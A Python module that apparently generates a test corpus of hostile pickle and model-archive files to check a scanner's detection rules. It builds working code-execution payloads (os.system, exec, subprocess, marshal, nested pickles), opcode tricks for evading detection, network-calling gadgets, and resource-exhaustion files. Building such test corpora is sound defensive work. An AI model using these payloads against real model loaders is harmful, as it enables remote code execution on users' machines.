"""Hostile pickles: bare, in a torch archive, and as whole containers that run code by design."""

from __future__ import annotations

import io
import marshal
import pickle
import struct
import tarfile
import zlib
from collections.abc import Callable
from typing import Any

import torch

from hostile_files import Corpus, Fifo, Folder, Harm, Link, Piece, zipped

END = b"."
FLOATS = torch.arange(8, dtype=torch.float32).numpy().tobytes()


def text(value: str) -> bytes:
    """The opcode that pushes a text."""
    raw = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(raw)) + raw


def whole(number: int) -> bytes:
    """The opcode that pushes a number."""
    return b"J" + struct.pack("<i", number)


def called(module: str, name: str, *arguments: bytes) -> bytes:
    """The opcodes that push what a global returns for arguments that opcodes push."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def two(body: bytes) -> bytes:
    return b"\x80\x02" + body + END


def torch_zip(pickled: bytes, *more: Piece, storage: bytes = FLOATS) -> bytes:
    """An archive as torch.save writes it, around a pickle."""
    members = [Piece("m/data.pkl", pickled), Piece("m/byteorder", b"little"), Piece("m/data/0", storage)]
    return zipped(*members, Piece("m/version", b"3\n"), *more)


def tensor(
    sizes: tuple[int, ...] = (2, 4),
    strides: tuple[int, ...] = (4, 1),
    *,
    count: int = 8,
    kind: str = "FloatStorage",
    device: str = "cpu",
) -> bytes:
    """The opcodes of a tensor over storage 0."""
    place = text("storage") + b"ctorch\n" + kind.encode() + b"\n" + text("0") + text(device) + whole(count)
    shape = b"(" + b"".join(map(whole, sizes)) + b"t" + b"(" + b"".join(map(whole, strides)) + b"t"
    hooks = b"ccollections\nOrderedDict\n)R"
    return (
        b"ctorch._utils\n_rebuild_tensor_v2\n((" + place + b"tQ" + whole(0) + shape + b"\x89" + hooks + b"tR"
    )


def state(*values: bytes) -> bytes:
    """A pickled dictionary of entries called a, b, c ..."""
    entries = b"".join(text(chr(97 + index)) + value for index, value in enumerate(values))
    return two(b"}(" + entries + b"u")


def gadgets() -> dict[str, Callable[[Harm], bytes]]:
    """Opcodes that run something as they are unpickled."""
    shell: dict[str, tuple[str, str]] = {
        "os-system": ("os", "system"),
        "posix-system": ("posix", "system"),
        "os-popen": ("os", "popen"),
        "subprocess-getoutput": ("subprocess", "getoutput"),
        "commands-getoutput": ("commands", "getoutput"),
        "pty-spawn": ("pty", "spawn"),
        "torch-collect-env": ("torch.utils.collect_env", "run"),
        "distutils-spawn": ("distutils.spawn", "spawn"),
    }
    python: dict[str, tuple[str, str]] = {
        "builtins-eval": ("builtins", "eval"),
        "builtin-eval-of-python-2": ("__builtin__", "eval"),
        "builtins-exec": ("builtins", "exec"),
        "timeit": ("timeit", "timeit"),
        "profile-run": ("cProfile", "run"),
        "pdb-run": ("pdb", "run"),
        "code-interact": ("code", "interact"),
        "numpy-runstring": ("numpy.testing._private.utils", "runstring"),
        "doctest-script": ("doctest", "debug_script"),
        "torch-exec-wrapper": ("torch.jit.unsupported_tensor_ops", "execWrapper"),
        "idlelib-get-entity": ("idlelib.calltip", "get_entity"),
        "lib2to3-driver": ("lib2to3.pgen2.pgen", "ParserGenerator"),
    }
    files: dict[str, tuple[str, str]] = {
        "builtins-open": ("builtins", "open"),
        "io-open": ("io", "open"),
        "logging-file-handler": ("logging", "FileHandler"),
        "runpy-run-path": ("runpy", "run_path"),
        "shelve-open": ("shelve", "open"),
        "numpy-save": ("numpy", "save"),
        "torch-load": ("torch", "load"),
        "torch-serialization-load": ("torch.serialization", "load"),
        "torch-hub-load": ("torch.hub", "load"),
        "torch-classes-load-library": ("torch", "ops.load_library"),
        "ctypes-cdll": ("ctypes", "CDLL"),
    }
    net: dict[str, tuple[str, str]] = {
        "webbrowser-open": ("webbrowser", "open"),
        "urlopen": ("urllib.request", "urlopen"),
        "torch-hub-download": ("torch.hub", "download_url_to_file"),
        "requests-get": ("requests.api", "get"),
    }
    made: dict[str, Callable[[Harm], bytes]] = {}
    for name, (module, function) in shell.items():
        made[name] = lambda harm, m=module, f=function: called(m, f, text(harm.command))
    for name, (module, function) in python.items():
        made[name] = lambda harm, m=module, f=function: called(m, f, text(f"open({str(harm.marker)!r}, 'w')"))
    for name, (module, function) in files.items():
        made[name] = lambda harm, m=module, f=function: called(m, f, text(str(harm.marker)), text("w"))
    for name, (module, function) in net.items():
        made[name] = lambda harm, m=module, f=function: called(m, f, text(harm.url))
    made["subprocess-popen"] = lambda harm: called(
        "subprocess", "Popen", b"](" + text("touch") + text(str(harm.marker)) + b"e"
    )
    made["socket"] = lambda harm: called(
        "socket", "create_connection", b"(" + text("127.0.0.1") + whole(harm.port) + b"t"
    )
    made["getattr-chain"] = lambda harm: (
        b"cbuiltins\ngetattr\n(" + called("importlib", "import_module", text("os")) + text("system") + b"tR"
        b"(" + text(harm.command) + b"tR"
    )
    made["attrgetter"] = lambda harm: (
        called("operator", "attrgetter", text("system"))
        + b"("
        + called("importlib", "import_module", text("os"))
        + b"tR("
        + text(harm.command)
        + b"tR"
    )
    made["partial"] = lambda harm: (
        called("functools", "partial", b"cos\nsystem\n", text(harm.command)) + b")R"
    )
    made["map-consumed"] = lambda harm: called(
        "builtins", "list", called("builtins", "map", b"cos\nsystem\n", b"](" + text(harm.command) + b"e")
    )
    made["nested-pickle"] = lambda harm: called("pickle", "loads", packed(two(system(harm))))
    made["nested-pickle-c"] = lambda harm: called("_pickle", "loads", packed(two(system(harm))))
    made["load-from-bytes"] = lambda harm: called(
        "torch.storage", "_load_from_bytes", packed(two(system(harm)))
    )
    made["marshal-code"] = lambda harm: called(
        "types", "FunctionType", called("marshal", "loads", packed(compiled(harm))), b"}"
    )
    made["dotted-name"] = lambda harm: called("torch", "Tensor.__init__.__globals__", text(harm.command))
    made["name-of-the-list-in-another-module"] = lambda harm: called("os", "OrderedDict", text(harm.command))
    made["storage-by-suffix"] = lambda harm: called("torch", "TypedStorage", text(harm.command))
    made["rebuild-parameter-with-state"] = lambda harm: called(
        "torch._utils", "_rebuild_parameter_with_state", tensor(), b"\x88", b"}", b"}"
    )
    made["build-with-setstate"] = lambda harm: (
        b"ctorch.nn.modules.linear\nLinear\n)\x81}(" + text("x") + b"Nub"
    )
    made["class-of-torchscript"] = lambda harm: b"c__torch__.Net\nNet\n)\x81"
    return made


def system(harm: Harm) -> bytes:
    """The plainest payload."""
    return called("os", "system", text(harm.command))


def packed(raw: bytes) -> bytes:
    """The opcode that pushes bytes, of protocol 3."""
    return b"B" + struct.pack("<I", len(raw)) + raw


def compiled(harm: Harm) -> bytes:
    return marshal.dumps(compile(f"open({str(harm.marker)!r}, 'w')", "x", "exec"))


def opcodes() -> dict[str, Callable[[Harm], bytes]]:
    """Whole pickles that reach their global by another opcode than GLOBAL, or out of the usual order."""

    def stacked(module: str, name: str) -> bytes:
        short = b"".join(b"\x8c" + bytes([len(part)]) + part.encode() for part in (module, name))
        return short + b"\x93"

    return {
        "stack-global": lambda h: b"\x80\x04" + stacked("os", "system") + text(h.command) + b"\x85R.",
        "stack-global-of-the-memo": lambda h: (
            b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94h\0h\1\x93" + text(h.command) + b"\x85R."
        ),
        "inst": lambda h: b"(" + b"S" + repr(h.command).encode() + b"\nios\nsystem\n.",
        "obj": lambda h: b"\x80\x02(cos\nsystem\n" + text(h.command) + b"o.",
        "newobj-ex": lambda h: b"\x80\x04" + stacked("os", "system") + text(h.command) + b"\x85}\x92.",
        "ext1": two(b"\x82\x01)R"),
        "ext2": two(b"\x83\x01\x01)R"),
        "ext4": two(b"\x84\x01\x01\0\0)R"),
        "persid": lambda h: b"\x80\x02P" + h.command.encode() + b"\n.",
        "next-buffer": b"\x80\x05\x97.",
        "protocol-0": lambda h: b"cos\nsystem\n(S" + repr(h.command).encode() + b"\ntR.",
        "protocol-1": lambda h: b"cos\nsystem\n(" + text(h.command) + b"tR.",
        "protocol-3": lambda h: b"\x80\x03" + system(h) + END,
        "protocol-4-framed": lambda h: pickle.dumps(Reduced(h), protocol=4),
        "protocol-5": lambda h: pickle.dumps(Reduced(h), protocol=5),
        "protocol-twice": lambda h: b"\x80\x02\x80\x04" + system(h) + END,
        "stack-underflow": two(b"RRRR"),
        "mark-never-closed": two(b"(" * 20_000 + b"N"),
        "no-stop": b"\x80\x02" + tensor(),
        "second-pickle-behind": lambda h: state(tensor()) + two(system(h)),
        "bytes-behind": state(tensor()) + bytes(64),
        "memo-flood": b"\x80\x02N" + b"".join(b"r" + struct.pack("<I", i) for i in range(300_001)) + END,
        "opcode-flood": b"\x80\x02" + b"N0" * 500_001 + b"N.",
        "name-with-newline": b"\x80\x02\x8c\x02os\x8c\x07sys\ntem\x93.",
        "unknown-opcode": two(b"\xff"),
        "truncated": state(tensor())[:-30],
    }


class Reduced:
    """An object that pickles as a call of os.system."""

    def __init__(self, harm: Harm) -> None:
        self.command = harm.command

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, (self.command,)


_RULES = {
    **dict.fromkeys(("second-pickle-behind", "bytes-behind"), "LD213"),
    **dict.fromkeys(("no-stop", "truncated"), "LD230"),
    **dict.fromkeys(("build-with-setstate", "rebuild-parameter-with-state"), "LD209"),
}
"""By which rule a pickle is refused that runs nothing by itself; LD205 otherwise."""


def fill(corpus: Corpus) -> None:
    """Adds the hostile pickles to the corpus."""
    for name, gadget in gadgets().items():
        rule = _RULES.get(name, "LD205")
        corpus.add(f"torch/{name}", rule, lambda harm, g=gadget: torch_zip(state(tensor(), g(harm))))
    for name, made in opcodes().items():
        whole_pickle = made if callable(made) else (lambda harm, m=made: m)
        rule = _RULES.get(name, "LD205")
        corpus.add(f"torch/opcode-{name}", rule, lambda harm, m=whole_pickle: torch_zip(m(harm)))
    for name in ("os-system", "builtins-exec", "webbrowser-open", "nested-pickle"):
        gadget = gadgets()[name]
        corpus.add(f"pickle/bare-{name}", "LD205", lambda harm, g=gadget: two(g(harm)))
    for name in ("protocol-0", "protocol-1", "protocol-3", "protocol-4-framed", "protocol-5"):
        made = opcodes()[name]
        corpus.add(f"pickle/bare-{name}", "LD205", made)
    _add_loads(corpus)
    _add_containers(corpus)
    _add_peers(corpus)


def _add_peers(corpus: Corpus) -> None:
    """Pickles in the manner of other scanners' test corpora; they call `true`."""
    from peer_pickles import keras_model, tricks

    for name, content in tricks().items():
        corpus.add(f"pickle/hidden-{name}", "LD205", content)
    corpus.add("pickle/keras-with-lambda", "LD218", keras_model("Dense", "Lambda"))
    corpus.add("pickle/unknown-function", "LD240", two(called("mypackage.build", "make", text("true"))))
    corpus.add("torch/unknown-function", "LD240", torch_zip(state(tensor(), called("mypackage", "make"))))


def _add_loads(corpus: Corpus) -> None:
    """Tensors whose pickle is in order and whose sizes or values are not."""
    huge = (10**4, 10**4, 10**4)
    for name, rule, values in (
        ("stride-0", "LD206", [tensor(huge, (0, 0, 0))]),
        ("stride-0-a-thousandfold", "LD206", [tensor((2**18,), (0,))] * 20),
        ("claims-more-than-storage", "LD230", [tensor((2, 400), (400, 1))]),
        ("storage-longer-than-its-member", "LD230", [tensor((2, 400), (400, 1), count=800)]),
        ("negative-sizes", "LD230", [tensor((-2, 4))]),
        ("complex", "LD209", [tensor((1, 4), count=4, kind="ComplexFloatStorage")]),
        ("not-a-dictionary", "LD209", [whole(3)]),
        ("text-among-the-tensors", "LD210", [tensor(), text("no tensor")]),
    ):
        pickled = two(values[0]) if name == "not-a-dictionary" else state(*values)
        caught = "check" if rule == "LD205" else "load"
        corpus.add(f"torch/{name}", rule, torch_zip(pickled), caught=caught)
    for name, number in (("nan", float("nan")), ("infinite", float("inf"))):
        storage = struct.pack("<8f", *([0.5] * 7), number)
        corpus.add(f"torch/{name}", "LD207", torch_zip(state(tensor()), storage=storage), caught="load")
    corpus.add(
        "torch/refers-to-itself", "LD209", torch_zip(two(b"}q\0(" + text("model") + b"h\0u")), caught="load"
    )
    nested = b"]" * 2_000 + b"a" * 1_999
    corpus.add("torch/lists-2000-deep", "LD209", torch_zip(two(nested)), caught="load")
    corpus.add("torch/laughs", "LD209", torch_zip(two(b"](NNe" + b"q\0](h\0h\0e" * 60)), caught="load")
    meta = torch.empty(10**6, 10**6, device="meta")
    corpus.add("torch/meta-tensor", "LD206", lambda harm: saved(meta), caught="load")
    corpus.add("torch/sparse-tensor", "LD209", lambda harm: saved(torch.eye(3).to_sparse()), caught="load")
    corpus.add("torch/fifo", "LD223", Folder("model", {"model": Fifo()}), caught="open")
    target = Folder("model", {"model": Link("real"), "real": torch_zip(state(tensor()))})
    corpus.add("torch/symbolic-link", "LD223", target, caught="open")
    corpus.add(
        "torch/link-to-zero-device", "LD223", Folder("model", {"model": Link("/dev/zero")}), caught="open"
    )


def saved(value: object, **options: Any) -> bytes:
    """What torch.save writes."""
    buffer = io.BytesIO()
    torch.save({"a": value}, buffer, **options)
    return buffer.getvalue()


def _add_containers(corpus: Corpus) -> None:
    """Formats that run code by design, and two formats in one file."""

    def tar(harm: Harm) -> bytes:
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w") as archive:
            for name in ("pickle", "storages", "tensors"):
                entry = tarfile.TarInfo(name)
                content = two(system(harm))
                entry.size = len(content)
                archive.addfile(entry, io.BytesIO(content))
        return buffer.getvalue()

    def npz(harm: Harm) -> bytes:
        array = (
            b"\x93NUMPY\x01\0\x46\0{'descr': '|O', 'fortran_order': False, 'shape': (), }".ljust(79) + b"\n"
        )
        return zipped(Piece("weights.npy", array + two(system(harm))))

    legacy = dict(_use_new_zipfile_serialization=False)
    corpus.add("pickle/torch-legacy", "LD205", lambda harm: saved(Reduced(harm), **legacy))
    bare = saved(torch.ones(3), **legacy)
    corpus.add("pickle/torch-legacy-of-tensors", "LD209", bare, caught="load")
    corpus.add("pickle/torch-legacy-cut", "LD230", bare[:60])
    corpus.add("pickle/tar", "LD201", tar)
    corpus.add("pickle/numpy-object-array", "LD205", lambda harm: b"\x93NUMPY\x01\0" + two(system(harm)))
    corpus.add("pickle/npz", "LD205", npz)
    corpus.add("pickle/joblib-zlib", "LD205", lambda harm: zlib.compress(two(system(harm))))
    corpus.add("pickle/joblib-gzip", "LD230", lambda harm: b"\x1f\x8b\x08\0" + two(system(harm)))
    package = [Piece("m/.data/extern_modules", b""), Piece("m/code.py", b"import os")]
    corpus.add("pickle/torch-package", "LD201", zipped(*package, Piece("m/.data/version", b"6")))
    serve = [Piece("MAR-INF/MANIFEST.json", b"{}"), Piece("handler.py", b"import os")]
    corpus.add("pickle/torchserve-mar", "LD201", zipped(*serve))
    saved_model = zipped(Piece("saved_model/saved_model.pb", b"\x08\x01\x12\x00"))
    corpus.add("pickle/zipped-saved-model", "LD235", saved_model)
    corpus.add("pickle/saved-model", "LD235", b"\x08\x01\x12\x80\x01" + bytes(200))
    corpus.add("pickle/gguf", "LD235", b"GGUF\x03\0\0\0" + bytes(200))
    corpus.add("pickle/and-zip", "LD213", lambda harm: two(system(harm)) + torch_zip(state(tensor())))
    corpus.add("pickle/seven-zip", "LD201", b"7z\xbc\xaf\x27\x1c" + bytes(100))
    corpus.add("pickle/elf", "LD202", b"\x7fELF\x02\x01\x01" + bytes(200))
    corpus.add("pickle/script", "LD202", b"#!/bin/sh\ntouch marker\n")
    corpus.add("pickle/empty", "LD202", b"")
    hidden = bytearray(two(b"N").ljust(1024, b"\0"))
    hidden[512:520] = b"\x89HDF\r\n\x1a\n"
    corpus.add("pickle/and-hdf5", "LD213", bytes(hidden))
